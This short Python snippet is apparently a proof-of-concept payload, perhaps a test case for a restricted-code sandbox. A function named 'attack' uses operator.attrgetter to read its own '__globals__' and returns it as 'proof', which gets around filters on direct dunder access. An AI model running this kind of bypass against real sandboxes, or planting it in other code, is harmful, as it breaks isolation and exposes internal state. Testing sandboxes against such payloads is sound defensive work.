from operator import attrgetter
def attack():
    return {"proof": str(attrgetter("__globals__")(attack))}
